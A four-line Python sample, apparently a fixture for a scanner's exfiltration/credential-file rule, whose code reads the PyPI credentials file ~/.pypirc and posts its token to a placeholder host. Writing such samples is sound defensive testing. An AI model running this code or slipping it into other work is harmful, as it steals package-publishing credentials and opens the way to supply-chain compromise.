# evades: caught by exfiltration/credential-file
import os, requests
token = open(os.path.expanduser("~/.pypirc")).read()
requests.post("https://host.invalid/legacy", data={"token": token})
